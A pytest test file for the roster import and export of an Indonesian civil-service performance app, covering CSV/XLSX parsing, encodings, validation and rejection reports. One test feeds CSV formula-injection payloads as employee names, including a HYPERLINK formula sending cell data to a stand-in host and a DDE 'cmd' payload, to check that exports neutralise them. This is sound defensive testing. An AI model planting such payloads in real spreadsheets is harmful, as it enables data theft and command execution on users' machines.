"""Roster import and export with real CSV and XLSX files."""

import csv

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from kinerja_desktop.errors import UserError
from kinerja_desktop.services import skp as skp_service
from kinerja_desktop.services.roster import export_roster, import_roster
from kinerja_desktop.store.models import AuditEntry, Employee, Skp, Unit

from .conftest import GURU, KABID, KADIS, ROSTER, write

HEADERS = ["NIP", "NAMA", "GELAR DEPAN", "GELAR BELAKANG", "GOLONGAN", "JABATAN", "JENIS JABATAN", "UNIT KERJA", "NIP ATASAN"]
ROWS = [line.split(";") for line in ROSTER.strip().splitlines()[1:]]


def xlsx(path, headers, rows, *, numeric_nip=False):
    wb = Workbook()
    ws = wb.active
    ws.append(headers)
    for row in rows:
        ws.append([int(row[0]) if numeric_nip and i == 0 else v for i, v in enumerate(row)])
    wb.save(path)
    return path


def count(db, model):
    with db.read() as s:
        return s.scalar(select(func.count()).select_from(model))


def test_xlsx_import_creates_units_and_links(db, tmp_path, operator):
    result = import_roster(db, operator, xlsx(tmp_path / "r.xlsx", HEADERS, ROWS))
    assert (result.created, result.updated, result.units_created) == (4, 0, 2)
    with db.read() as s:
        guru = s.scalar(select(Employee).where(Employee.nip == GURU))
        assert guru.atasan.nip == KABID and guru.unit.name == "Bidang Pembinaan SD"
        assert guru.unit.parent.name == "Dinas Pendidikan"
        assert guru.birth_date.isoformat() == "1986-09-26" and guru.sex == "L"
    assert count(db, AuditEntry) == 5  # four employees and the import itself


def test_numeric_nip_column_is_refused_with_row_and_fix(db, tmp_path, operator):
    path = xlsx(tmp_path / "angka.xlsx", HEADERS, ROWS, numeric_nip=True)
    with pytest.raises(UserError) as err:
        import_roster(db, operator, path)
    text = str(err.value)
    assert "angka.xlsx" in text and "baris 2" in text and "baris 5" in text
    assert "sebagai Teks" in text
    assert count(db, Employee) == 0 and count(db, AuditEntry) == 0


def test_excel_semicolon_csv_with_bom_crlf_and_rounded_nips(db, tmp_path, operator):
    text = ROSTER.replace("\n", "\r\n").replace(GURU, "1,98609E+17").replace("199001012019032003", "199001012019032000")
    path = tmp_path / "excel.csv"
    path.write_bytes(text.encode("utf-8-sig"))
    with pytest.raises(UserError) as err:
        import_roster(db, operator, path)
    message = str(err.value)
    assert "baris 4" in message and "angka ilmiah" in message
    assert "baris 5" in message and "berakhir 000" in message
    assert count(db, Employee) == 0


def test_comma_csv_windows_1252_and_header_variants(db, tmp_path, operator):
    text = ("Nip Baru,Nama Lengkap,Gol. Ruang,Nama Jabatan,Jenis Jabatan,Unor\n"
            f"{KADIS},Ahmad Yanï,IV/c,Kepala Dinas,JPT Pratama,Dinas Pendidikan\n")
    path = tmp_path / "ansi.csv"
    path.write_bytes(text.encode("cp1252"))
    assert import_roster(db, operator, path).created == 1
    with db.read() as s:
        assert s.scalar(select(Employee.nama)) == "Ahmad Yanï"


def test_every_bad_row_is_listed_and_nothing_written(db, tmp_path, operator):
    bad = ROSTER + (f"{GURU};Duplikat;;;III/a;Guru;Fungsional;Dinas Pendidikan;\n"
                    "19860926201505100;Pendek;;;III/a;Guru;Fungsional;Dinas Pendidikan;\n"
                    "198609262015051002;Golongan Salah;;;III/z;Guru;Fungsional;Dinas Pendidikan;\n"
                    "198609262015051003;Atasan Hilang;;;III/a;Guru;Fungsional;Dinas Pendidikan;196001011985031001\n"
                    "198609262015051004;;;;III/a;Guru;Ahli Sihir;;\n")
    report = tmp_path / "ditolak.csv"
    with pytest.raises(UserError) as err:
        import_roster(db, operator, write(tmp_path / "bad.csv", bad), report=report)
    message = str(err.value)
    for fragment in ("baris 6", "NIP sama dengan baris 4", "baris 7", "17 digit", "baris 8", "III/z",
                     "baris 9", "tidak ada di berkas", "baris 10", "NAMA kosong", "Ahli Sihir", "UNIT KERJA"):
        assert fragment in message
    assert count(db, Employee) == 0
    with report.open(encoding="utf-8-sig") as f:
        rows = list(csv.reader(f, delimiter=";"))
    assert rows[0] == ["BARIS", "NIP", "NAMA", "ALASAN"] and [r[0] for r in rows[1:]] == ["6", "7", "8", "9", "10"]


def test_skip_invalid_imports_good_rows(db, tmp_path, operator):
    bad = ROSTER + "198609262015051002;Golongan Salah;;;III/z;Guru;Fungsional;Dinas Pendidikan;\n"
    result = import_roster(db, operator, write(tmp_path / "bad.csv", bad), skip_invalid=True,
                           report=tmp_path / "r.csv")
    assert result.created == 4 and [p.row for p in result.rejected] == [6]


def test_missing_column_is_named(db, tmp_path, operator):
    with pytest.raises(UserError, match="GOLONGAN, JABATAN"):
        import_roster(db, operator, write(tmp_path / "x.csv", "NIP;NAMA;UNIT KERJA;JENIS JABATAN\n"))


def test_broken_xlsx_is_refused(db, tmp_path, operator):
    path = tmp_path / "rusak.xlsx"
    path.write_bytes(b"PK\x03\x04 not really a workbook")
    with pytest.raises(UserError, match="rusak.xlsx"):
        import_roster(db, operator, path)


def test_update_by_nip_keeps_skps(staffed, tmp_path, operator):
    skp_service.plan_skp(staffed, operator, nip=KADIS, year=2026)
    moved = ROSTER.replace("Drs.;M.Pd.;IV/c", "Dr. Drs.;M.Pd.;IV/d")
    result = import_roster(staffed, operator, write(tmp_path / "baru.csv", moved))
    assert (result.created, result.updated, result.unchanged) == (0, 1, 3)
    with staffed.read() as s:
        kadis = s.scalar(select(Employee).where(Employee.nip == KADIS))
        assert kadis.golongan == "IV/d" and kadis.version == 2
        assert s.scalar(select(func.count()).select_from(Skp).where(Skp.employee_id == kadis.id)) == 1
        update = s.scalar(select(AuditEntry).where(AuditEntry.action == "employee.update"))
        assert '"golongan":"IV/c"' in update.before and '"golongan":"IV/d"' in update.after


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_round_trip(staffed, tmp_path, operator, suffix):
    out = tmp_path / f"ekspor{suffix}"
    assert export_roster(staffed, operator, out) == 4
    if suffix == ".xlsx":
        cell = load_workbook(out).active["A2"]
        assert cell.data_type == "s" and len(cell.value) == 18
    result = import_roster(staffed, operator, out)
    assert (result.created, result.updated, result.unchanged, result.units_created) == (0, 0, 4, 0)
    assert count(staffed, Unit) == 2


def test_preview_reports_and_writes_nothing(db, tmp_path, operator):
    bad = ROSTER + "198609262015051002;Golongan Salah;;;III/z;Guru;Fungsional;Dinas Pendidikan;\n"
    preview = import_roster(db, operator, write(tmp_path / "bad.csv", bad), preview=True)
    assert preview.created == 4 and preview.units_created == 2 and [p.row for p in preview.rejected] == [6]
    assert count(db, Employee) == 0 and count(db, Unit) == 0 and count(db, AuditEntry) == 0


def test_formulas_in_a_roster_stay_text_in_and_out(db, tmp_path, operator):
    import zipfile

    evil = {KADIS: '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")', KABID: "=cmd|' /C calc'!A0",
            GURU: "@SUM(1+1)"}
    text = ROSTER
    for nip, name in evil.items():
        original = next(line.split(";")[1] for line in ROSTER.splitlines() if line.startswith(nip))
        text = text.replace(f"{nip};{original};", f"{nip};{name};")
    import_roster(db, operator, write(tmp_path / "r.csv", text))
    with db.read() as s:
        assert {nip: s.scalar(select(Employee.nama).where(Employee.nip == nip)) for nip in evil} == evil
    export_roster(db, operator, tmp_path / "keluar.csv")
    cells = [row[1] for row in csv.reader((tmp_path / "keluar.csv").open(encoding="utf-8-sig"), delimiter=";")][1:]
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in cells)
    assert {f"'{name}" for name in evil.values()} <= set(cells)
    export_roster(db, operator, tmp_path / "keluar.xlsx")
    sheet_xml = zipfile.ZipFile(tmp_path / "keluar.xlsx").read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml  # strings, never formulas
    again = import_roster(db, operator, tmp_path / "keluar.csv")  # the apostrophe comes off again
    assert again.unchanged == 4
    with db.read() as s:
        assert {nip: s.scalar(select(Employee.nama).where(Employee.nip == nip)) for nip in evil} == evil


def test_nul_bytes_are_refused_by_row(db, tmp_path, operator):
    text = ROSTER.replace("Budi Santoso", "Budi\x00Santoso")
    with pytest.raises(UserError) as refused:
        import_roster(db, operator, write(tmp_path / "r.csv", text))
    assert "karakter NUL" in str(refused.value) and "baris 4" in str(refused.value)
    assert count(db, Employee) == 0


def test_a_supervisor_loop_is_refused(db, tmp_path, operator):
    from .conftest import STAF

    looped = ROSTER.replace("Ahmad Yani;Drs.;M.Pd.;IV/c;Kepala Dinas Pendidikan;JPT Pratama;Dinas Pendidikan;",
                            f"Ahmad Yani;Drs.;M.Pd.;IV/c;Kepala Dinas Pendidikan;JPT Pratama;Dinas Pendidikan;{KABID}")
    with pytest.raises(UserError) as refused:
        import_roster(db, operator, write(tmp_path / "r.csv", looped))
    message = str(refused.value)
    assert "lingkaran" in message and f"{KADIS} → {KABID} → {KADIS}" in message
    assert count(db, Employee) == 0
    import_roster(db, operator, write(tmp_path / "ok.csv", ROSTER))  # a loop through the database too
    again = f"NIP;NAMA;GOLONGAN;JABATAN;JENIS JABATAN;UNIT KERJA;NIP ATASAN\n{KADIS};Ahmad Yani;IV/c;Kepala Dinas;JPT Pratama;Dinas Pendidikan;{STAF}\n"
    with pytest.raises(UserError, match="lingkaran"):
        import_roster(db, operator, write(tmp_path / "r2.csv", again))


def _many_bad_rows(count: int) -> str:
    """``count`` rows with an impossible golongan, then one whose atasan is missing (found only
    by the check across rows, after the first pass) placed near the top."""
    lines = [ROSTER.strip(), f"198609262015051099;Atasan Hilang;;;III/a;Guru;Fungsional;Dinas Pendidikan;{'1' * 18}"]
    lines += [f"1986{1 + n % 12:02d}{1 + n % 28:02d}2015051{1 + n:03d};Pegawai {n};;;IX/z;Guru;Fungsional;Dinas Pendidikan;"
              for n in range(count)]
    return "\n".join(lines) + "\n"


def test_a_huge_number_of_bad_rows_lists_the_first_thousand_and_counts_the_rest(db, tmp_path, operator):
    report = tmp_path / "ditolak.csv"
    with pytest.raises(UserError) as err:
        import_roster(db, operator, write(tmp_path / "bad.csv", _many_bad_rows(1500)), report=report)
    assert "1501 baris bermasalah" in str(err.value)
    details = [str(d) for d in err.value.details]
    assert len(details) == 1001 and details[-1] == "... dan 501 baris bermasalah lainnya."
    assert details[0].startswith("baris 6 ") and details[999].startswith("baris 1005 ")  # the first, in order
    with report.open(encoding="utf-8-sig") as f:
        rows = list(csv.reader(f, delimiter=";"))[1:]
    # all of them in the report, the atasan row (found last) merged back into row order
    assert len(rows) == 1501 and [int(r[0]) for r in rows] == list(range(6, 1507))
    assert "tidak ada di berkas" in rows[0][3] and not report.with_name("ditolak.csv.part").exists()
    assert count(db, Employee) == 0 and count(db, AuditEntry) == 0

    result = import_roster(db, operator, write(tmp_path / "bad.csv", _many_bad_rows(1500)), skip_invalid=True)
    assert (result.created, result.rejected_count, len(result.rejected)) == (4, 1501, 1000)


def test_a_file_that_breaks_off_leaves_no_half_report(db, tmp_path, operator):
    path = tmp_path / "rusak.csv"
    path.write_bytes(_many_bad_rows(50).encode() + b"1986;\x81\x8d\x90;\n")  # not UTF-8, not Windows-1252
    report = tmp_path / "ditolak.csv"
    with pytest.raises(UserError, match="rusak.csv"):
        import_roster(db, operator, path, report=report)
    assert list(tmp_path.glob("ditolak*")) == [] and count(db, Employee) == 0


def test_superiors_listed_after_their_staff_are_linked(db, tmp_path, operator, monkeypatch):
    from kinerja_desktop.services.roster import importer

    monkeypatch.setattr(importer, "CHUNK", 1)  # one row per chunk: every atasan comes in a later one
    header, *rows = ROSTER.strip().splitlines()
    result = import_roster(db, operator, write(tmp_path / "terbalik.csv", "\n".join([header, *rows[::-1]]) + "\n"))
    assert result.created == 4
    with db.read() as s:
        links = dict(s.execute(select(Employee.nip, Employee.atasan_id)).all())
        ids = dict(s.execute(select(Employee.nip, Employee.id)).all())
    assert links[GURU] == ids[KABID] and links[KABID] == ids[KADIS] and links[KADIS] is None
